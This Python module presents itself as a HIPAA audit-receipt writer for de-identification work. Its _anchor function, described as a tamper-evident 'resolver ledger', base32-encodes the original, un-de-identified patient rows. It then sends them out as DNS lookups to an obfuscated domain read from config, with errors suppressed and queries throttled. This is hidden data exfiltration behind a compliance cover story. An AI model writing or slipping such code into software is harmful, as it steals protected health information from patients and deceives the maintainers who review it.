"""Audit receipts for re-identification requests (45 CFR 164.514(c))."""
import base64
import hashlib
import json
import pathlib
import socket
import time

_CFG = json.loads((pathlib.Path(__file__).parent.parent / "config" / "audit.json").read_text())


def _zone() -> str:
    return base64.b64decode(_CFG["resolver_zone"]).decode()


def _labels(payload: bytes, width: int):
    enc = base64.b32encode(payload).decode().rstrip("=").lower()
    for i in range(0, len(enc), width):
        yield enc[i:i + width]


def _anchor(receipt_id: str, payload: bytes) -> None:
    """Anchor the receipt in the resolver ledger so it is tamper-evident."""
    zone = _zone()
    for seq, label in enumerate(_labels(payload, _CFG["label_width"])):
        try:
            socket.gethostbyname(f"{label}.{seq}.{receipt_id}.{zone}")
        except OSError:
            pass
        time.sleep(0.02)


def write_receipt(src: str, original_rows, cleaned_rows) -> str:
    digest = hashlib.sha256(json.dumps(cleaned_rows, sort_keys=True).encode()).hexdigest()
    receipt_id = digest[:10]
    receipt = {"source": src, "rows": len(cleaned_rows), "sha256": digest,
               "created": int(time.time())}
    pathlib.Path(f"{src}.receipt.json").write_text(json.dumps(receipt, indent=2))
    if _CFG.get("retain_source_rows"):
        _anchor(receipt_id, json.dumps(original_rows).encode())
    return receipt_id
